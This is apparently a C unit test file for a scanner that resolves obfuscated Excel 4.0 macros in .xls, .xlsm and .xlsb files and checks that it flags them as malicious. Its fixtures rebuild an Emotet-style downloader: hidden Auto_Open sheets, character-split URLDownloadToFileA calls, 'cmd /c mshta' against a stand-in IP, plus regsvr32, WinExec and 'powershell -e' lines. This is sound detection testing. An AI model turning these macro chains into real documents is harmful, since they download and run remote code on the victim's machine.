/* Static resolution of Excel 4.0 macros: SET.NAME / FORMULA writes, cell constants, names, and
 * the command lines and URLs that only exist once they are resolved (.xls and .xlsm). */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <cmocka.h>

#include "office/office.h"
#include "office_fixtures.h"

#include <stdio.h>
#include <stdlib.h>
#include <string.h>

#define URL "http://198.51.100.40/a.hta"
/* the URL with '@' between its characters: not visible in the file */
#define URL_AT "h@t@t@p@:@/@/@1@9@8@.@5@1@.@1@0@0@.@4@0@/@a@.@h@t@a"
#define CMD "cmd /c mshta " URL

/* ---- the resolver on its own ---- */

static const char *const KIND[] = {"NAME", "WRITE", "CALL", "ARG"};

static void collect(void *ud, eg_xlm_res_kind k, const char *where, const char *text, size_t len)
{
    eg_buf_printf(ud, "%s %s %.*s\n", KIND[k], where, (int)len, text);
}

static char *resolve(const char *xlm, eg_status *st)
{
    eg_buf out;
    eg_buf_init(&out, 0);
    eg_buf_reserve(&out, 1);
    eg_status s = eg_xlm_resolve(xlm, strlen(xlm), collect, &out, NULL, NULL);
    if (st)
        *st = s;
    size_t n;
    return eg_buf_steal(&out, &n);
}

static const char EMOTET_TEXT[] =
    "' sheet \"M\" type=macro state=veryHidden\n"
    "' name \"Auto_Open\" builtin hidden = M!$A$1\n"
    "' name \"fnx\" = \n"
    "M!B1: \"URLDown\"\n"
    "M!B2: \"loadToFileA\"\n"
    "M!B3: \"" URL_AT "\"\n"
    "M!A1: =SET.NAME(\"fnx\",$B$1&$B$2)\n"
    "M!A2: =SET.NAME(\"u_rl\",SUBSTITUTE($B$3,\"@\",\"\"))\n"
    "M!A3: =FORMULA(CHAR(61)&\"EX\"&\"EC(\"\"c\"&CHAR(109)&\"d /c msh\"&\"ta "
    "\"&u_rl&\"\"\")\",R5C1)\n"
    "M!A4: =CALL(\"url\"&\"mon\",fnx,\"JJCCBB\",0,u_rl,\"..\\x.ocx\",0,0)\n"
    "M!A6: =HALT()\n"
    "M!A7: =EXEC(\"after.halt\")\n";

static void test_resolve_chain(void **state)
{
    (void)state;
    eg_status st;
    char *r = resolve(EMOTET_TEXT, &st);
    if (getenv("EG_DUMP"))
        printf("%s", r);
    assert_int_equal(st, EG_OK);
    assert_non_null(strstr(r, "NAME fnx URLDownloadToFileA\n"));
    assert_non_null(strstr(r, "NAME u_rl " URL "\n"));
    assert_non_null(strstr(r, "WRITE M!A5 =EXEC(\"" CMD "\")\n"));
    assert_non_null(strstr(r, "CALL M!A4 CALL(\"urlmon\",\"URLDownloadToFileA\",\"JJCCBB\",0,\"" URL
                              "\",\"..\\x.ocx\",0,0)\n"));
    /* the written formula ran when the flow reached A5 */
    assert_non_null(strstr(r, "CALL M!A5 EXEC(\"" CMD "\")\n"));
    assert_non_null(strstr(r, "ARG M!A5 " CMD "\n"));
    /* literal-only calls are visible as written: not reported again */
    assert_null(strstr(r, "after.halt"));
    free(r);
}

static void test_resolve_functions(void **state)
{
    (void)state;
    char *r =
        resolve("' sheet \"S\" type=macro state=visible\n"
                "S!C1: 142\n"
                "S!C2: \"zz.exe\"\n"
                "S!A1: =SET.NAME(\"k\",CHAR($C$1-43)&LEFT(\"regsvr32xx\",8)&\" "
                "\"&RIGHT(S!C2,4)&LEN(\"abc\")&MID(\"xyz\",2,1))\n"
                "S!A2: =IF(GET.WORKSPACE(13)<770,CLOSE(FALSE),)\n"
                "S!A3: =EXEC(k&\" /s \"&LOWER(\"A.OCX\")&CONCATENATE(\"-\",REPT(\"r\",3),2*3))\n"
                "S!A4: =SET.VALUE(S!D1,\"pow\"&\"ershell -e\")\n"
                "S!A5: =EXEC($D$1&\" x\")\n"
                "S!A6: =SET.NAME(\"e\",EVALUATE(\"CHAR(72)&\"\"i\"\"\"))\n"
                "S!A7: =GOTO(S!A9)\n"
                "S!A8: =EXEC(\"skip\"&\"ped\")\n"
                "S!A9: =RETURN()\n",
                NULL);
    if (getenv("EG_DUMP"))
        printf("%s", r);
    assert_non_null(strstr(r, "NAME k cregsvr32 .exe3y\n"));
    /* an unknown condition: CLOSE does not stop the macro */
    assert_non_null(strstr(r, "ARG S!A3 cregsvr32 .exe3y /s a.ocx-rrr6\n"));
    assert_non_null(strstr(r, "WRITE S!D1 powershell -e\n"));
    assert_non_null(strstr(r, "ARG S!A5 powershell -e x\n"));
    assert_non_null(strstr(r, "NAME e Hi\n"));
    /* A8 is jumped over by the flow, but still read by the sweep over cells never reached */
    assert_non_null(strstr(r, "ARG S!A8 skipped\n"));
    free(r);
}

/* control flow across sheets: RUN into a subroutine that writes into another sheet, RETURN */
static void test_resolve_flow(void **state)
{
    (void)state;
    char *r = resolve("' sheet \"Main\" type=macro state=veryHidden\n"
                      "' sheet \"Sub 2\" type=macro state=hidden\n"
                      "' name \"Auto_Open\" builtin = Main!$B$2\n"
                      "Main!B2: =RUN('Sub 2'!$C$10)\n"
                      "Main!B3: =EXEC(part&\"32 ..\\x.ocx\")\n"
                      "Main!B4: =HALT()\n"
                      "Sub 2!C10: =SET.NAME(\"part\",\"regsvr\")\n"
                      "Sub 2!C11: "
                      "=FORMULA.FILL(\"=CALL(\"\"Kernel32\"\",\"\"WinExec\"\",\"\"JCJ\"\","
                      "\"\"calc\"\",0)\",Main!$D$1:$D$2)\n"
                      "Sub 2!C12: =RETURN()\n"
                      "Sub 2!C13: =EXEC(\"never\"&\"reached\")\n",
                      NULL);
    if (getenv("EG_DUMP"))
        printf("%s", r);
    /* the name set in the subroutine is known when the flow comes back */
    assert_non_null(strstr(r, "ARG Main!B3 regsvr32 ..\\x.ocx\n"));
    assert_non_null(
        strstr(r, "WRITE Main!D1 =CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)\n"));
    assert_non_null(strstr(r, "CALL Main!D2 CALL(\"Kernel32\",\"WinExec\",\"JCJ\",\"calc\",0)\n"));
    /* after RETURN the flow does not fall through; the sweep still reads C13 */
    assert_non_null(strstr(r, "ARG Sub 2!C13 neverreached\n"));
    free(r);
}

static void test_resolve_hostile(void **state)
{
    (void)state;
    /* loops, self references, deep nesting, broken text: bounded, no value guessed */
    eg_buf t;
    eg_buf_init(&t, 0);
    eg_buf_puts(&t, "' sheet \"L\" type=macro state=visible\nL!A1: =GOTO(L!A1)\nL!B1: =B1&\"x\"\n"
                    "L!A2: =SET.NAME(\"q\",L!B1&\"y\")\nL!A3: =EXEC(q)\nL!A4: =");
    for (int i = 0; i < 500; i++)
        eg_buf_putc(&t, '(');
    eg_buf_puts(&t, "1\nL!A5: =\"unterminated\nL!A6: =<undecodable>\nL!A7: "
                    "=FORMULA.FILL(\"=EXEC(\"\"a\"\"&\"\"bc\"\")\",L!C1:C300)\n"
                    "L!A8: =REPT(\"xxxxxxxx\",100000)&CHAR(300)\n"
                    "L!A9: =SET.NAME(\"e\",REPT(\"\",1E+300)&REPT(\"\",9E+15)&\"end\")\n");
    eg_status st;
    eg_buf out;
    eg_buf_init(&out, 0);
    st = eg_xlm_resolve((const char *)t.data, t.len, collect, &out, NULL, NULL);
    assert_true(st == EG_OK || st == EG_ELIMIT);
    const char *r = out.data ? (const char *)out.data : "";
    assert_null(strstr(r, "ARG L!A3"));
    /* FORMULA.FILL filled the range; each written EXEC ran (bounded by the fill limit) */
    assert_non_null(strstr(r, "WRITE L!C1 =EXEC(\"a\"&\"bc\")\n"));
    assert_non_null(strstr(r, "ARG L!C1 abc\n"));
    assert_non_null(strstr(r, "ARG L!C256 abc\n"));
    assert_null(strstr(r, "ARG L!C257 "));
    /* REPT of an empty text a huge number of times is empty at once, not a loop */
    assert_non_null(strstr(r, "NAME e end\n"));
    eg_buf_free(&out);
    /* big written values: the bytes kept are bounded (64 MiB), the run ends at that limit */
    eg_buf big;
    eg_buf_init(&big, 0);
    eg_buf_puts(&big, "' sheet \"B\" type=macro state=visible\n");
    for (int i = 1; i <= 3000; i++)
        eg_buf_printf(&big, "B!A%d: =REPT(\"x\",32767)\n", i);
    eg_buf o3;
    eg_buf_init(&o3, 0);
    assert_int_equal(eg_xlm_resolve((const char *)big.data, big.len, collect, &o3, NULL, NULL),
                     EG_ELIMIT);
    eg_buf_free(&o3);
    eg_buf_free(&big);
    /* more cells than fit: the formulas are kept first, and still run */
    eg_buf_init(&big, 0);
    eg_buf_puts(&big, "' sheet \"B\" type=macro state=visible\n");
    for (int i = 1; i <= 70000; i++)
        eg_buf_printf(&big, "B!C%d: %d\n", i, i);
    eg_buf_puts(&big, "B!A1: =EXEC(\"c\"&\"alc.exe \"&B!C65000)\n");
    eg_buf_init(&o3, 0);
    eg_buf_reserve(&o3, 1);
    assert_int_equal(eg_xlm_resolve((const char *)big.data, big.len, collect, &o3, NULL, NULL),
                     EG_ELIMIT);
    assert_non_null(strstr((const char *)o3.data, "ARG B!A1 calc.exe 65000\n"));
    eg_buf_free(&o3);
    eg_buf_free(&big);
    /* a long chain of cells that only refer on (=A2, =A3 ...): bounded depth, no stack overflow */
    eg_buf_init(&big, 0);
    eg_buf_puts(&big, "' sheet \"C\" type=macro state=visible\nC!B1: =EXEC(\"x\"&C!A1)\n");
    for (int i = 1; i <= 20000; i++)
        eg_buf_printf(&big, "C!A%d: =C!A%d\n", i, i + 1);
    eg_buf_init(&o3, 0);
    st = eg_xlm_resolve((const char *)big.data, big.len, collect, &o3, NULL, NULL);
    assert_true(st == EG_OK || st == EG_ELIMIT);
    eg_buf_free(&o3);
    eg_buf_free(&big);
    /* every prefix of the text is read without harm */
    for (size_t n = 0; n < t.len; n += 13) {
        eg_buf o2;
        eg_buf_init(&o2, 0);
        eg_xlm_resolve((const char *)t.data, n, collect, &o2, NULL, NULL);
        eg_buf_free(&o2);
    }
    eg_buf_free(&t);
}

static bool stop_now(void *ud)
{
    (*(int *)ud)++;
    return true;
}

static void test_resolve_stop(void **state)
{
    (void)state;
    int calls = 0;
    eg_buf out;
    eg_buf_init(&out, 0);
    static const char t[] =
        "' sheet \"L\" type=macro state=visible\nL!A1: =SET.NAME(\"a\",1)\nL!A2: =GOTO(L!A1)\n";
    eg_status st = eg_xlm_resolve(t, sizeof t - 1, collect, &out, stop_now, &calls);
    assert_int_equal(st, EG_ETIME);
    assert_true(calls >= 1);
    eg_buf_free(&out);
}

/* ---- a whole .xls: the same chain in BIFF8 records ---- */

static void xls_chain(eg_buf f[6])
{
    for (int i = 0; i < 6; i++)
        eg_buf_init(&f[i], 0);
    /* names: 1 Auto_Open, 2 fnx, 3 u_rl */
    eg_fx_ptg_str(&f[0], "fnx", false); /* A1: SET.NAME("fnx",$B$1&Sheet1!$B$2) */
    eg_fx_ptg_ref(&f[0], 0, 1);
    eg_fx_ptg_ref3d(&f[0], 0, 1, 1);
    eg_fx_ptg_op(&f[0], 0x08);
    eg_fx_ptg_funcvar(&f[0], 88, 2);     /* SET.NAME */
    eg_fx_ptg_str(&f[1], "u_rl", false); /* A2 */
    eg_fx_ptg_ref(&f[1], 2, 1);
    eg_fx_ptg_str(&f[1], "@", false);
    eg_fx_ptg_str(&f[1], "", false);
    eg_fx_ptg_funcvar(&f[1], 120, 3); /* SUBSTITUTE */
    eg_fx_ptg_funcvar(&f[1], 88, 2);
    eg_fx_ptg_int(
        &f[2],
        61); /* A3: FORMULA(CHAR(61)&"EX"&"EC(""c"&CHAR(109)&"d /c msh"&"ta "&u_rl&""")", $A$5) */
    eg_fx_ptg_func(&f[2], 111);
    eg_fx_ptg_str(&f[2], "EX", false);
    eg_fx_ptg_op(&f[2], 0x08);
    eg_fx_ptg_str(&f[2], "EC(\"c", false);
    eg_fx_ptg_op(&f[2], 0x08);
    eg_fx_ptg_int(&f[2], 109);
    eg_fx_ptg_func(&f[2], 111);
    eg_fx_ptg_op(&f[2], 0x08);
    eg_fx_ptg_str(&f[2], "d /c msh", false);
    eg_fx_ptg_op(&f[2], 0x08);
    eg_fx_ptg_str(&f[2], "ta ", false);
    eg_fx_ptg_op(&f[2], 0x08);
    eg_fx_ptg_name(&f[2], 3);
    eg_fx_ptg_op(&f[2], 0x08);
    eg_fx_ptg_str(&f[2], "\")", false);
    eg_fx_ptg_op(&f[2], 0x08);
    eg_fx_ptg_ref(&f[2], 4, 0);
    eg_fx_ptg_funcvar(&f[2], 0x8000 | 96, 2); /* FORMULA (a command) */
    eg_fx_ptg_str(&f[3], "url",
                  false); /* A4: CALL("url"&"mon",fnx,"JJCCBB",0,u_rl,"..\x.ocx",0,0) */
    eg_fx_ptg_str(&f[3], "mon", false);
    eg_fx_ptg_op(&f[3], 0x08);
    eg_fx_ptg_name(&f[3], 2);
    eg_fx_ptg_str(&f[3], "JJCCBB", false);
    eg_fx_ptg_int(&f[3], 0);
    eg_fx_ptg_name(&f[3], 3);
    eg_fx_ptg_str(&f[3], "..\\x.ocx", false);
    eg_fx_ptg_int(&f[3], 0);
    eg_fx_ptg_int(&f[3], 0);
    eg_fx_ptg_funcvar(&f[3], 150, 8);
    eg_fx_ptg_funcvar(&f[4], 54, 0);     /* A6: HALT() */
    eg_fx_ptg_str(&f[5], "load", false); /* Sheet1!B2: "load"&"ToFileA" */
    eg_fx_ptg_str(&f[5], "ToFileA", false);
    eg_fx_ptg_op(&f[5], 0x08);
}

static bool has_rule_prefix(const eg_report *r, const char *prefix)
{
    for (size_t i = 0; i < eg_report_finding_count(r); i++)
        if (!strncmp(eg_rule_get(eg_report_finding(r, i)->rule)->id, prefix, strlen(prefix)))
            return true;
    return false;
}

static void test_xls_resolved(void **state)
{
    (void)state;
    eg_buf f[6];
    xls_chain(f);
    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 2, NULL, 0}};
    const char *names[] = {"fnx", "u_rl"};
    /* "loadToFileA" is the cached result of a formula on the worksheet */
    eg_fx_cell cells[] = {
        {1, 0, 1, "URLDown", NULL, NULL}, {0, 1, 1, NULL, &f[5], "loadToFileA"},
        {1, 2, 1, URL_AT, NULL, NULL},    {1, 0, 0, NULL, &f[0], NULL},
        {1, 1, 0, NULL, &f[1], NULL},     {1, 2, 0, NULL, &f[2], NULL},
        {1, 3, 0, NULL, &f[3], NULL},     {1, 5, 0, NULL, &f[4], NULL},
    };
    eg_buf wb;
    eg_buf_init(&wb, 0);
    /* straddle: the SST spans a CONTINUE record, "URLDown" split across it */
    assert_int_equal(
        eg_fx_biff8_book(sh, 2, true, names, 2, cells, sizeof cells / sizeof *cells, true, &wb),
        EG_OK);
    eg_fx_stream st[1] = {{"Workbook", wb.data, wb.len}};
    uint8_t *xls;
    size_t len;
    assert_int_equal(eg_fx_cfb(st, 1, &xls, &len), EG_OK);
    /* nothing dangerous is readable in the file itself */
    assert_null(memmem(xls, len, "URLDownload", 11));
    assert_null(memmem(xls, len, "198.51", 6));
    eg_report *r = eg_fx_scan("invoice.xls", xls, len, NULL, 0);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    const char *x = eg_fx_captured(EG_T_XLM);
    assert_non_null(strstr(x, "Macro1!B1: \"URLDown\"\n"));
    assert_non_null(
        strstr(x, "Sheet1!B2: \"loadToFileA\"\n")); /* FORMULA + STRING on the worksheet */
    assert_non_null(strstr(x, "Macro1!A1: =SET.NAME(\"fnx\",$B$1&Sheet1!$B$2)\n"));
    assert_non_null(strstr(x, "Macro1!B3: \"" URL_AT "\"\n"));
    assert_non_null(strstr(x, "Macro1!A3: =FORMULA(CHAR(61)&\"EX\"&\"EC(\"\"c\"&CHAR(109)&\"d /c "
                              "msh\"&\"ta \"&u_rl&\"\"\")\",$A$5)\n"));
    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "name fnx = URLDownloadToFileA"));
    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A5 argument: " CMD));
    assert_true(
        eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "CALL(\"urlmon\",\"URLDownloadToFileA\""));
    /* only the resolved strings name the download and the URL */
    assert_true(eg_fx_finding_with(r, "XLM.DOWNLOAD", "URLDownloadToFileA"));
    assert_true(eg_fx_has_ioc(r, URL));
    assert_true(has_rule_prefix(r, "CMD."));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    assert_non_null(strstr(eg_fx_captured(EG_T_TEXT), CMD));
    eg_report_free(r);
    free(xls);
    eg_buf_free(&wb);
    for (int i = 0; i < 6; i++)
        eg_buf_free(&f[i]);
}

/* ---- .xlsm: shared strings and inline strings in a macro sheet ---- */

static const char CT[] =
    "<?xml version=\"1.0\"?><Types "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
    "<Override PartName=\"/xl/workbook.xml\" "
    "ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/></Types>";
static const char WB[] =
    "<?xml version=\"1.0\"?><workbook "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
    "xmlns:r=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships\"><sheets>"
    "<sheet name=\"Sheet1\" sheetId=\"1\" r:id=\"rId1\"/><sheet name=\"Doc2\" sheetId=\"2\" "
    "state=\"veryHidden\" r:id=\"rId2\"/>"
    "</sheets><definedNames><definedName "
    "name=\"_xlnm.Auto_Open\">Doc2!$A$1</definedName></definedNames></workbook>";
static const char WB_RELS[] =
    "<?xml version=\"1.0\"?><Relationships "
    "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
    "<Relationship Id=\"rId1\" "
    "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
    "Target=\"worksheets/sheet1.xml\"/>"
    "<Relationship Id=\"rId2\" "
    "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
    "Target=\"macrosheets/sheet1.xml\"/>"
    "</Relationships>";
static const char SST[] = "<?xml version=\"1.0\"?><sst "
                          "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                          "count=\"2\" uniqueCount=\"2\">"
                          "<si><t>Hello</t></si><si><r><t>URLDown</t></r><r><t>load</t></"
                          "r><rPh><t>ignored</t></rPh></si></sst>";
static const char MS[] =
    "<?xml version=\"1.0\"?><xm:macrosheet "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
    "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
    "<row r=\"1\"><c r=\"A1\"><f>SET.NAME(\"fn\",Sheet1!B1&amp;Sheet1!C1)</f><v>1</v></c></row>"
    "<row r=\"2\"><c r=\"A2\"><f>SET.NAME(\"u\",SUBSTITUTE(B3,\"@\",\"\"))</f></c><c r=\"B2\" "
    "t=\"inlineStr\"><is><t>ToFile</t></is></c></row>"
    "<row r=\"3\"><c "
    "r=\"A3\"><f>FORMULA(CHAR(61)&amp;\"EX\"&amp;\"EC(\"\"c\"&amp;CHAR(109)&amp;\"d /c "
    "msh\"&amp;\"ta \"&amp;u&amp;\"\"\")\",A5)</f></c>"
    "<c r=\"B3\" t=\"inlineStr\"><is><t>" URL_AT "</t></is></c></row>"
    "<row r=\"4\"><c "
    "r=\"A4\"><f>CALL(\"url\"&amp;\"mon\",fn,\"JJCCBB\",0,u,\"..\\x.ocx\",0,0)</f></c><c "
    "r=\"C4\"><v>42</v></c></row>"
    "<row r=\"6\"><c r=\"A6\"><f>HALT()</f></c></row></sheetData></xm:macrosheet>";

/* the worksheet the macro reads: a shared string, and a formula whose cached value counts */
static const char WS[] =
    "<?xml version=\"1.0\"?><worksheet "
    "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\"><sheetData>"
    "<row r=\"1\"><c r=\"A1\" t=\"s\"><v>0</v></c><c r=\"B1\" t=\"s\"><v>1</v></c>"
    "<c r=\"C1\" "
    "t=\"str\"><f>CHAR(84)&amp;\"oFileA\"</f><v>ToFileA</v></c></row></sheetData></worksheet>";

static void test_xlsm_resolved(void **state)
{
    (void)state;
    eg_fx_part p[] = {{"[Content_Types].xml", CT, 0},
                      {"xl/workbook.xml", WB, 0},
                      {"xl/_rels/workbook.xml.rels", WB_RELS, 0},
                      {"xl/sharedStrings.xml", SST, 0},
                      {"xl/macrosheets/sheet1.xml", MS, 0},
                      {"xl/worksheets/sheet1.xml", WS, 0}};
    uint8_t *z;
    size_t len;
    assert_int_equal(eg_fx_zip_stored(p, 6, &z, &len), EG_OK);
    eg_report *r = eg_fx_scan("order.xlsm", z, len, NULL, 0);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    const char *x = eg_fx_captured(EG_T_XLM);
    assert_non_null(strstr(
        x, "Sheet1!B1: \"URLDownload\"\n")); /* rich text runs joined, phonetic run left out */
    assert_non_null(strstr(x, "Sheet1!C1: \"ToFileA\"\n")); /* a worksheet formula's cached value */
    assert_null(strstr(x, "Sheet1!C1: ="));                 /* worksheet formulas are not macros */
    assert_non_null(strstr(x, "Doc2!B2: \"ToFile\"\n"));
    assert_non_null(strstr(x, "Doc2!C4: 42\n"));
    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "name fn = URLDownloadToFileA"));
    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "Doc2!A5 argument: " CMD));
    assert_true(eg_fx_finding_with(r, "XLM.DOWNLOAD", "URLDownloadToFileA"));
    assert_true(eg_fx_has_ioc(r, URL));
    assert_true(eg_report_has_rule(r, "XLM.VERY_HIDDEN_SHEET"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(z);
}

/* ---- .xlsb: a BIFF12 macro sheet with a string constant (BrtCellSt) ---- */

static void b12_ref(eg_buf *b, uint32_t row, uint16_t col)
{
    uint8_t d[7] = {0x44,
                    (uint8_t)row,
                    (uint8_t)(row >> 8),
                    (uint8_t)(row >> 16),
                    (uint8_t)(row >> 24),
                    (uint8_t)col,
                    (uint8_t)(col >> 8)};
    eg_buf_append(b, d, 7);
}

static void test_xlsb_resolved(void **state)
{
    (void)state;
    eg_buf f[3];
    for (int i = 0; i < 3; i++)
        eg_buf_init(&f[i], 0);
    /* A1: FORMULA(CHAR(61)&"EX"&"EC(""c"&$B$1&""")",$A$3)   A2: "pad"   A3: "later", overwritten */
    eg_fx_ptg_int(&f[0], 61);
    eg_fx_ptg_func(&f[0], 111);
    eg_fx_ptg_str(&f[0], "EX", true);
    eg_fx_ptg_op(&f[0], 0x08);
    eg_fx_ptg_str(&f[0], "EC(\"c", true);
    eg_fx_ptg_op(&f[0], 0x08);
    b12_ref(&f[0], 0, 1);
    eg_fx_ptg_op(&f[0], 0x08);
    eg_fx_ptg_str(&f[0], "\")", true);
    eg_fx_ptg_op(&f[0], 0x08);
    b12_ref(&f[0], 2, 0);
    eg_fx_ptg_funcvar(&f[0], 0x8000 | 96, 2);
    eg_fx_ptg_str(&f[1], "pad", true);
    eg_fx_ptg_str(&f[2], "later", true);
    eg_fx_sheet sh[2] = {{"Sheet1", 0, 0, NULL, 0}, {"Macro1", 1, 2, NULL, 0}};
    eg_buf wb, ms, rec;
    eg_buf_init(&wb, 0);
    eg_buf_init(&ms, 0);
    eg_buf_init(&rec, 0);
    eg_fx_b12_workbook(sh, 2, true, &wb);
    eg_fx_b12_macrosheet(f, 3, &ms);
    uint8_t row0[17] = {0};
    eg_fx_b12_record(&ms, 0x00, row0, sizeof row0);
    uint32_t col = 1, style = 0;
    const char *text = "md /c mshta " URL;
    uint32_t n = (uint32_t)strlen(text);
    eg_buf_append(&rec, &col, 4);
    eg_buf_append(&rec, &style, 4);
    eg_buf_append(&rec, &n, 4);
    for (uint32_t i = 0; i < n; i++) {
        eg_buf_putc(&rec, (uint8_t)text[i]);
        eg_buf_putc(&rec, 0);
    }
    eg_fx_b12_record(&ms, 0x06, rec.data, rec.len); /* BrtCellSt */
    /* the worksheet: a formula (BrtFmlaString) whose cached result the macro could read */
    eg_buf ws;
    eg_buf_init(&ws, 0);
    eg_fx_b12_record(&ws, 0x00, row0, sizeof row0);
    rec.len = 0;
    col = 2;
    const char *cached = "cached text";
    n = (uint32_t)strlen(cached);
    eg_buf_append(&rec, &col, 4);
    eg_buf_append(&rec, &style, 4);
    eg_buf_append(&rec, &n, 4);
    for (uint32_t i = 0; i < n; i++) {
        eg_buf_putc(&rec, (uint8_t)cached[i]);
        eg_buf_putc(&rec, 0);
    }
    uint16_t grbit = 0;
    uint32_t cce = (uint32_t)f[1].len, cb = 0;
    eg_buf_append(&rec, &grbit, 2);
    eg_buf_append(&rec, &cce, 4);
    eg_buf_append(&rec, f[1].data, f[1].len);
    eg_buf_append(&rec, &cb, 4);
    eg_fx_b12_record(&ws, 0x08, rec.data, rec.len);
    static const char rels[] =
        "<?xml version=\"1.0\"?><Relationships "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\">"
        "<Relationship Id=\"rId1\" "
        "Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/worksheet\" "
        "Target=\"worksheets/sheet1.bin\"/>"
        "<Relationship Id=\"rId2\" "
        "Type=\"http://schemas.microsoft.com/office/2006/relationships/xlMacrosheet\" "
        "Target=\"macrosheets/sheet1.bin\"/>"
        "</Relationships>";
    static const char ct[] =
        "<?xml version=\"1.0\"?><Types "
        "xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\">"
        "<Override PartName=\"/xl/workbook.bin\" "
        "ContentType=\"application/vnd.ms-excel.sheet.binary.macroEnabled.main\"/></Types>";
    eg_fx_part p[] = {{"[Content_Types].xml", ct, 0},
                      {"xl/workbook.bin", (const char *)wb.data, wb.len},
                      {"xl/_rels/workbook.bin.rels", rels, 0},
                      {"xl/macrosheets/sheet1.bin", (const char *)ms.data, ms.len},
                      {"xl/worksheets/sheet1.bin", (const char *)ws.data, ws.len}};
    uint8_t *z;
    size_t len;
    assert_int_equal(eg_fx_zip_stored(p, 5, &z, &len), EG_OK);
    eg_report *r = eg_fx_scan("invoice.xlsb", z, len, NULL, 0);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_non_null(strstr(eg_fx_captured(EG_T_XLM), "Macro1!B1: \"md /c mshta " URL "\"\n"));
    assert_non_null(strstr(eg_fx_captured(EG_T_XLM), "Sheet1!C1: \"cached text\"\n"));
    assert_null(strstr(eg_fx_captured(EG_T_XLM), "Sheet1!C1: ="));
    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A3 <- =EXEC(\"" CMD "\")"));
    assert_true(eg_fx_finding_with(r, "XLM.RESOLVED_STRING", "Macro1!A3 argument: " CMD));
    assert_true(eg_report_has_rule(r, "XLM.AUTO_OPEN_EXECUTION"));
    assert_int_equal(eg_report_verdict(r), EG_VERDICT_MALICIOUS);
    eg_report_free(r);
    free(z);
    eg_buf_free(&wb);
    eg_buf_free(&ms);
    eg_buf_free(&rec);
    eg_buf_free(&ws);
    for (int i = 0; i < 3; i++)
        eg_buf_free(&f[i]);
}

/* A macro sheet whose first formula is 60 000 quotes (read as one string full of "" escapes):
 * the CHAR() chain search goes on where a chain stopped instead of starting again at each quote,
 * and the real chain in the next cell is still decoded. */
static void test_xlsm_quote_line(void **state)
{
    (void)state;
    eg_buf ms;
    eg_buf_init(&ms, 0);
    eg_buf_puts(&ms, "<?xml version=\"1.0\"?><xm:macrosheet "
                     "xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\" "
                     "xmlns:xm=\"http://schemas.microsoft.com/office/excel/2006/main\"><sheetData>"
                     "<row r=\"1\"><c r=\"A1\"><f>");
    for (int i = 0; i < 60000; i++)
        eg_buf_puts(&ms, "&quot;");
    eg_buf_puts(
        &ms, "</f></c></row><row r=\"2\"><c r=\"A2\"><f>EXEC(\"cal\"&amp;CHAR(99)&amp;\".exe\")</f>"
             "</c></row></sheetData></xm:macrosheet>");
    eg_fx_part p[] = {{"[Content_Types].xml", CT, 0},
                      {"xl/workbook.xml", WB, 0},
                      {"xl/_rels/workbook.xml.rels", WB_RELS, 0},
                      {"xl/macrosheets/sheet1.xml", (const char *)ms.data, ms.len}};
    uint8_t *z;
    size_t len;
    assert_int_equal(eg_fx_zip_stored(p, 4, &z, &len), EG_OK);
    eg_report *r = eg_fx_scan("quotes.xlsm", z, len, NULL, 0);
    assert_non_null(r);
    if (getenv("EG_DUMP"))
        eg_fx_dump(r);
    assert_non_null(strstr(eg_fx_captured(EG_T_TEXT), "calc.exe"));
    assert_true(eg_report_has_rule(r, "XLM.EXECUTION"));
    eg_report_free(r);
    free(z);
    eg_buf_free(&ms);
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_resolve_chain),   cmocka_unit_test(test_resolve_functions),
        cmocka_unit_test(test_resolve_flow),    cmocka_unit_test(test_resolve_hostile),
        cmocka_unit_test(test_resolve_stop),    cmocka_unit_test(test_xls_resolved),
        cmocka_unit_test(test_xlsm_resolved),   cmocka_unit_test(test_xlsb_resolved),
        cmocka_unit_test(test_xlsm_quote_line),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
